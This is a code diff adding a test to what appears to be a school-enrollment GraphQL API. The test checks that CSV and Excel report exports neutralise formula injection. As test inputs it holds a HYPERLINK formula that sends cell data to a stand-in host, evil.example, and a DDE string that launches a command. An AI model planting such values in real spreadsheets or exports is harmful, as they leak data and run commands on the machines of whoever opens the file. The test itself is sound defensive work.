@@ -3,6 +3,8 @@ import { randomUUID } from 'node:crypto';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { loadConfig, mintToken, resolveAuthSecret } from '@qingmiao/api';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { serverAudits } from 'graphql-http';
 import { decodeJwt, type JWTPayload, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -263,6 +265,50 @@ describe('hostile requests', () => {
     } finally {
       await production.stop();
     }
+  });
+});
+
+describe('spreadsheet exports', () => {
+  it('neutralise names and towns that a spreadsheet would run as formulas, and keep figures as numbers', async () => {
+    const id = `f-${randomUUID().slice(0, 6)}`;
+    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"实验小学")';
+    const town = "+cmd|' /C calc'!A0";
+    const registered = await server.graphql(
+      organizer,
+      'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { id } }',
+      { input: { id, name, kind: 'PRIMARY', town } },
+    );
+    expect(codeOf(registered)).toBe('OK');
+    const enrolled = await server.graphql(
+      organizer,
+      `mutation { recordEnrollment(input: {schoolId: "${id}", year: 2023, students: 300}) { students } }`,
+    );
+    expect(codeOf(enrolled)).toBe('OK');
+    const download = (path: string) =>
+      fetch(`${server.url}/reports/${path}`, { headers: { authorization: `Bearer ${organizer}` } });
+
+    const bySchool = parse(Buffer.from(await (await download('participation.csv?year=2023')).arrayBuffer()), {
+      bom: true,
+      columns: true,
+    }) as Record<string, string>[];
+    expect(bySchool.find((record) => record.学校代码 === id)).toMatchObject({ 名称: `'${name}`, 在校学生数: '300' });
+    const byTown = parse(
+      Buffer.from(await (await download('participation.csv?year=2023&groupBy=TOWN')).arrayBuffer()),
+      { bom: true, columns: true },
+    ) as Record<string, string>[];
+    expect(byTown.map((record) => record['镇/区'])).toContain(`'${town}`);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await download('participation.xlsx?year=2023')).arrayBuffer());
+    const rowOf = (sheetName: string, key: string) => {
+      const sheet = workbook.getWorksheet(sheetName);
+      const rows = sheet?.getRows(2, sheet.rowCount - 1) ?? [];
+      return rows.find((row) => row.getCell(1).value === key);
+    };
+    const school = rowOf('按学校', id);
+    expect(school?.getCell(2).value).toBe(`'${name}`);
+    expect(school?.getCell(8).value).toBe(300);
+    expect(rowOf('按镇区', `'${town}`)?.getCell(2).value).toBe(`'${town}`);
   });
 });
 
